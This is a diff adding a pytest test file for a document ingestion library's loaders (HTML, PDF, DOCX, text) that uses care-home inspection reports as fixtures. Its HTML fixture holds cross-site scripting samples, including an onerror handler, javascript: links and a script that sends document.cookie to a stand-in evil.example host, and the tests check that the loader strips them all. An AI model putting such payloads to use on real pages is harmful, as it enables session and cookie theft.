@@ -1,0 +1,385 @@
+"""Loaders for every format, on files the tests write; bad input is a one-line LoadError.
+
+The `make_*` helpers are shared with tests/integration/test_ingest.py.
+"""
+
+from __future__ import annotations
+
+import io
+import logging
+import random
+import re
+from pathlib import Path
+
+import pytest
+
+from ingest.chunking import chunk_document
+from ingest.cleaning import boilerplate_blocks
+from ingest.loaders import LoadError, decode_text, load_document, title_from_filename
+from ingest.pipeline import collect_files, doc_id_for
+from ingest.structure import LoadedDocument
+
+PDF_FINDING = "The kitchen had no working fridge thermometer for three weeks in February."
+PDF_ACTION = "The provider must replace the thermometer and record fridge checks every day."
+DOCX_FINDING = "Controlled drugs were audited weekly by two pharmacists working together."
+HOSTILE_HTML = """<!doctype html>
+<html><head><title>Hillside hostile review</title>
+<style>p { color: red } .stolen { content: "STYLE-BODY" }</style>
+<script>window.__pwned=1; document.write("SCRIPT-BODY")</script>
+</head><body>
+<nav><a href="/">Home</a> | <a href="/about">About us</a></nav>
+<h1>Hillside hostile review</h1>
+<p>We inspected the home in March <img src="x" onerror="window.__pwned=2">and spoke with twelve residents.</p>
+<h2>Findings</h2>
+<ul>
+  <li>Staff were kind and knew residents&#39; preferences well.</li>
+  <li>Fees rose by &pound;40 a week; see <a href="javascript:alert('pwned')">the fee letter</a>.</li>
+</ul>
+<h3>Food</h3>
+<div><p>Meals were hot and residents chose from <b>three</b> options.</p></div>
+<script type="text/javascript">fetch("https://evil.example/steal?c=" + document.cookie)</script>
+<noscript>NOSCRIPT-BODY</noscript>
+<iframe src="javascript:alert(3)">IFRAME-BODY</iframe>
+<footer>Copyright footer text</footer>
+</body></html>
+"""
+HOSTILE_MARKERS = ("__pwned", "onerror", "javascript", "alert", "SCRIPT-BODY", "STYLE-BODY", "evil.example")
+
+
+def make_pdf(*, title: str | None = None) -> bytes:
+    """Three pages: background on page 1, the finding on page 2, the action on page 3."""
+    from fpdf import FPDF
+
+    pdf = FPDF()
+    pdf.set_font("Helvetica", size=12)
+    if title:
+        pdf.set_title(title)
+
+    def line(text: str) -> None:
+        pdf.multi_cell(0, 8, text, new_x="LMARGIN", new_y="NEXT")
+
+    pdf.add_page()
+    line("Quarterly review of Hillside Care Home")
+    line("Background")
+    line("We visited the home over two days in March and spoke with residents, relatives and staff. " * 3)
+    pdf.add_page()
+    line("Findings")
+    line(PDF_FINDING)
+    pdf.add_page()
+    line("Actions")
+    line(PDF_ACTION)
+    return bytes(pdf.output())
+
+
+def make_docx(*, core_title: str | None = None) -> bytes:
+    import docx
+
+    document = docx.Document()
+    if core_title:
+        document.core_properties.title = core_title
+    document.add_heading("Inspection of Riverside Trust", 0)  # the 'Title' style
+    document.add_paragraph("This report sets out what we found when we inspected the trust in spring.")
+    document.add_heading("Safe care", 1)
+    document.add_paragraph("Staff told us that handovers were thorough and well documented across all wards.")
+    document.add_heading("Medicines", 2)
+    document.add_paragraph("Medicines were stored securely and fridge temperatures were checked.", style="List Bullet")
+    document.add_paragraph(DOCX_FINDING, style="List Bullet")
+    table = document.add_table(rows=2, cols=2)
+    for row, (ward, rating) in enumerate([("Ward", "Rating"), ("Ash ward", "Good")]):
+        table.cell(row, 0).text, table.cell(row, 1).text = ward, rating
+    buffer = io.BytesIO()
+    document.save(buffer)
+    return buffer.getvalue()
+
+
+MARKDOWN = """# Annual review of Oak Lodge
+
+Oak Lodge is a nursing home for forty older people, reviewed in June.
+
+## Findings
+
+### Staffing
+
+- Night shifts were short of one nurse on eleven occasions in May.
+- Agency staff were given a full induction before their first shift.
+
+## Next steps
+
+We will return within six months to check the staffing plan.
+"""
+
+
+def chunks_of(document: LoadedDocument):
+    return chunk_document(document, boilerplate_blocks(document.text, document.blocks))
+
+
+def block_texts(document: LoadedDocument, kind: str) -> list[str]:
+    return [document.text[block.start : block.end] for block in document.blocks if block.kind == kind]
+
+
+# --- plain text and Markdown -----------------------------------------------------------------
+
+
+def test_plain_text_is_verbatim_with_title_from_first_line() -> None:
+    data = b"Quality review of Elm House\n\nStaff were kind.\n\n- Meals were hot.\n"
+    document = load_document(Path("elm.txt"), data)
+    assert document.text == data.decode()
+    assert document.title == "Quality review of Elm House"
+    assert document.blocks[0].kind == "heading" and document.blocks[0].level == 1
+    assert block_texts(document, "bullet") == ["- Meals were hot."]
+    assert document.page_starts == ()
+
+
+def test_plain_text_title_falls_back_to_file_name() -> None:
+    document = load_document(Path("cqc-elm-house_review.txt"), b"Staff were kind to every resident we met.\n")
+    assert document.title == "CQC elm house review"
+
+
+def test_crlf_is_normalised() -> None:
+    document = load_document(Path("a.txt"), b"Heading line\r\n\r\nA finding.\r\n")
+    assert document.text == "Heading line\n\nA finding.\n"
+
+
+def test_markdown_keeps_heading_levels_and_section_paths() -> None:
+    document = load_document(Path("oak.md"), MARKDOWN.encode())
+    assert document.text == MARKDOWN
+    assert document.title == "Annual review of Oak Lodge"
+    headings = [
+        (block.level, document.text[block.start : block.end]) for block in document.blocks if block.kind == "heading"
+    ]
+    assert headings == [(1, "Annual review of Oak Lodge"), (2, "Findings"), (3, "Staffing"), (2, "Next steps")]
+    assert len(block_texts(document, "bullet")) == 2
+    sections = {chunk.section for chunk in chunks_of(document) if "Night shifts" in chunk.text}
+    assert sections == {"Findings > Staffing"}
+    after = next(chunk for chunk in chunks_of(document) if "We will return" in chunk.text)
+    assert after.section == "Next steps"
+
+
+# --- HTML -----------------------------------------------------------------------------------
+
+
+def test_html_blocks_and_title() -> None:
+    document = load_document(Path("hostile.html"), HOSTILE_HTML.encode())
+    assert document.title == "Hillside hostile review"
+    headings = [
+        (block.level, document.text[block.start : block.end]) for block in document.blocks if block.kind == "heading"
+    ]
+    assert headings == [(1, "Hillside hostile review"), (2, "Findings"), (3, "Food")]
+    bullets = block_texts(document, "bullet")
+    assert bullets[0] == "Staff were kind and knew residents' preferences well."
+    assert bullets[1].startswith("Fees rose by £40 a week; see the fee letter")
+    assert "Meals were hot and residents chose from three options." in block_texts(document, "paragraph")
+    assert document.text.count("Meals were hot") == 1  # nested blocks are not read twice
+    for chunk in chunks_of(document):
+        assert chunk.text == document.text[chunk.start : chunk.end]
+    food = next(chunk for chunk in chunks_of(document) if "Meals were hot" in chunk.text)
+    assert food.section == "Findings > Food"
+
+
+@pytest.mark.parametrize("marker", [*HOSTILE_MARKERS, "NOSCRIPT-BODY", "IFRAME-BODY", "Copyright footer", "About us"])
+def test_hostile_html_leaves_no_trace(marker: str) -> None:
+    document = load_document(Path("hostile.html"), HOSTILE_HTML.encode())
+    assert marker not in document.text
+
+
+def test_html_without_block_elements_falls_back_to_lines() -> None:
+    data = b"<html><body>First line of text<br>Second line of text<script>x=1</script></body></html>"
+    document = load_document(Path("bare.htm"), data)
+    assert block_texts(document, "paragraph") == ["First line of text", "Second line of text"]
+    assert "x=1" not in document.text
+
+
+# --- PDF ------------------------------------------------------------------------------------
+
+
+def test_pdf_pages_are_kept() -> None:
+    document = load_document(Path("hillside.pdf"), make_pdf())
+    assert len(document.page_starts) == 3
+    assert document.title == "Quarterly review of Hillside Care Home"
+    finding = document.text.index(PDF_FINDING)
+    assert document.page_at(finding) == 2
+    assert document.page_at(document.text.index(PDF_ACTION)) == 3
+    assert document.page_at(document.text.index("We visited the home")) == 1
+    chunks = chunks_of(document)
+    pages = {phrase: next(c.page for c in chunks if phrase in c.text) for phrase in (PDF_FINDING, PDF_ACTION)}
+    assert pages == {PDF_FINDING: 2, PDF_ACTION: 3}
+    for chunk in chunks:
+        assert chunk.text == document.text[chunk.start : chunk.end]
+        assert chunk.page == document.page_at(chunk.start)
+
+
+def test_pdf_sections_come_from_headings_not_wrapped_lines() -> None:
+    document = load_document(Path("hillside.pdf"), make_pdf())
+    chunks = chunks_of(document)
+    assert {chunk.section for chunk in chunks} == {"Background", "Findings", "Actions"}
+
+
+def test_pdf_metadata_title_wins() -> None:
+    assert load_document(Path("h.pdf"), make_pdf(title="Hillside 2024")).title == "Hillside 2024"
+
+
+# --- DOCX -----------------------------------------------------------------------------------
+
+
+def test_docx_styles_become_blocks_and_sections() -> None:
+    document = load_document(Path("riverside.docx"), make_docx())
+    assert document.title == "Inspection of Riverside Trust"
+    headings = [
+        (block.level, document.text[block.start : block.end]) for block in document.blocks if block.kind == "heading"
+    ]
+    assert headings == [(1, "Inspection of Riverside Trust"), (2, "Safe care"), (3, "Medicines")]
+    assert block_texts(document, "bullet") == [
+        "Medicines were stored securely and fridge temperatures were checked.",
+        DOCX_FINDING,
+    ]
+    assert "Ward | Rating" in block_texts(document, "paragraph")
+    chunk = next(chunk for chunk in chunks_of(document) if DOCX_FINDING in chunk.text)
+    assert chunk.section == "Safe care > Medicines"
+    handover = next(chunk for chunk in chunks_of(document) if "handovers" in chunk.text)
+    assert handover.section == "Safe care"
+
+
+def test_docx_core_title_wins() -> None:
+    assert load_document(Path("r.docx"), make_docx(core_title="Riverside 2024")).title == "Riverside 2024"
+
+
+# --- decoding -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("data", "expected"),
+    [
+        ("Plain UTF-8 – café £5".encode(), "Plain UTF-8 – café £5"),
+        (b"\xef\xbb\xbfWith a BOM", "With a BOM"),
+        ("‘Smart quotes’ cost £12 – “really”".encode("cp1252"), "‘Smart quotes’ cost £12 – “really”"),
+        ("Café naïve Zürich façade".encode("latin-1"), "Café naïve Zürich façade"),
+        ("UTF-16 text with £".encode("utf-16"), "UTF-16 text with £"),
+        (b"a\r\nb\rc", "a\nb\nc"),
+        (b"tabs\tand\fform feeds", "tabs\tand\fform feeds"),
+    ],
+)
+def test_decode_text(data: bytes, expected: str) -> None:
+    assert decode_text(data) == expected
+
+
+def test_cp1252_file_loads_with_its_characters() -> None:
+    data = "Fees review\n\nResidents said the ‘top-up’ fee of £25 was unfair.\n".encode("cp1252")
+    document = load_document(Path("fees.txt"), data)
+    assert "‘top-up’ fee of £25" in document.text
+    assert any("£25" in chunk.text for chunk in chunks_of(document))
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
+        b"text with a NUL \x00 in it",
+        bytes(range(0x80, 0xA0)) * 20,  # C1 control characters in every decoding
+        b"\xff\xfe\x00\xd8a\x00",  # a UTF-16 BOM followed by a lone surrogate
+    ],
+    ids=["png", "nul", "c1-controls", "bad-utf16"],
+)
+def test_binary_is_refused(data: bytes) -> None:
+    with pytest.raises(LoadError, match="not a text file"):
+        decode_text(data)
+
+
+# --- bad input ------------------------------------------------------------------------------
+
+
+def _corrupt_filter_pdf() -> bytes:
+    return make_pdf().replace(b"/FlateDecode", b"/FlateDecodX")
+
+
+def _blank_pdf() -> bytes:
+    from fpdf import FPDF
+
+    pdf = FPDF()
+    pdf.add_page()
+    return bytes(pdf.output())
+
+
+BAD_FILES = [
+    ("empty.txt", b"", "file is empty"),
+    ("spaces.txt", b"   \n\t\r\n   ", "file is empty"),
+    ("random.pdf", random.Random(0).randbytes(4096), "not a readable PDF"),
+    ("truncated.pdf", make_pdf()[:700], "not a readable PDF"),
+    ("bad-filter.pdf", _corrupt_filter_pdf(), "not a readable PDF"),
+    ("blank.pdf", _blank_pdf(), "no extractable text"),
+    ("image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random.Random(1).randbytes(512), "not a text file"),
+    ("c1.md", bytes(range(0x80, 0xA0)) * 20, "not a text file"),
+    ("nul.html", b"<p>hi</p>\x00\x00\x00", "not a text file"),
+    ("bad-utf16.txt", b"\xff\xfe\x00\xd8a\x00", "not a text file"),
+    ("random.docx", random.Random(2).randbytes(2048), "not a readable DOCX"),
+    ("zip-ish.docx", b"PK\x03\x04" + random.Random(3).randbytes(512), "not a readable DOCX"),
+    ("scripts-only.html", b"<html><script>var a = 1;</script><style>p{}</style></html>", "no text found"),
+    ("notes.xyz", b"Some perfectly good text.", "unsupported file type '.xyz'"),
+    ("Makefile", b"all:\n\techo hi\n", "unsupported file type 'Makefile'"),
+]
+
+
+@pytest.mark.parametrize(("name", "data", "message"), BAD_FILES, ids=[name for name, _, _ in BAD_FILES])
+def test_bad_input_is_a_one_line_load_error(name: str, data: bytes, message: str) -> None:
+    with pytest.raises(LoadError) as raised:
+        load_document(Path(name), data)
+    text = str(raised.value)
+    assert message in text
+    assert "\n" not in text and 0 < len(text) <= 200
+
+
+def test_bad_pdf_logs_nothing(caplog: pytest.LogCaptureFixture) -> None:
+    """pypdf's own warnings ('EOF marker not found') would reach stderr beside the one-line error."""
+    with caplog.at_level(logging.DEBUG), pytest.raises(LoadError):
+        load_document(Path("random.pdf"), random.Random(0).randbytes(4096))
+    assert [record.getMessage() for record in caplog.records if record.levelno >= logging.WARNING] == []
+
+
+# --- names ----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "title"),
+    [
+        ("cqc-state-of-care.txt", "CQC state of care"),
+        ("my_review.txt", "My review"),
+        ("nhs-111-report.pdf", "NHS 111 report"),
+        ("2021-report.md", "2021 report"),
+        ("---.txt", "---.txt"),
+    ],
+)
+def test_title_from_filename(name: str, title: str) -> None:
+    assert title_from_filename(Path(name)) == title
+
+
+@pytest.mark.parametrize(
+    ("name", "doc_id"),
+    [
+        ("cqc-collaborating-for-better-care.txt", "cqc-collaborating-for-better-care"),
+        ("CQC Report (v2).PDF", "cqc-report-v2"),
+        ("review with spaces.docx", "review-with-spaces"),
+        ("Überprüfung – café.txt", r"uberprufung-cafe-[0-9a-f]{8}"),
+        ("!!!.txt", r"doc-[0-9a-f]{8}"),
+        ("x" * 196 + ".txt", r"x{70}-[0-9a-f]{8}"),
+    ],
+)
+def test_doc_id_for(name: str, doc_id: str) -> None:
+    assert re.fullmatch(doc_id, doc_id_for(name))
+
+
+def test_doc_ids_keep_accented_names_apart() -> None:
+    assert doc_id_for("café.txt") != doc_id_for("cafe.txt")
+    assert doc_id_for("café.txt") == doc_id_for("café.md")  # the suffix is not part of the identity
+
+
+def test_collect_files(tmp_path: Path) -> None:
+    (tmp_path / "sub" / ".hidden").mkdir(parents=True)
+    for name in ["a.txt", "sub/b.md", "sub/c.PDF", "README.md", "sub/.hidden/d.txt", ".e.txt", "f.xyz", "g.docx"]:
+        (tmp_path / name).write_text("x")
+    explicit = tmp_path / "f.xyz"
+    files, missing = collect_files([tmp_path, explicit, tmp_path / "nope.txt"])
+    assert sorted(path.relative_to(tmp_path).as_posix() for path in files) == sorted(
+        ["a.txt", "sub/b.md", "sub/c.PDF", "g.docx", "f.xyz"]
+    )
+    assert missing == [{"path": str(tmp_path / "nope.txt"), "error": "no such file or folder"}]
+    again, _ = collect_files([tmp_path, tmp_path / "a.txt"])
+    assert len(again) == len(set(again))  # a file named twice is ingested once
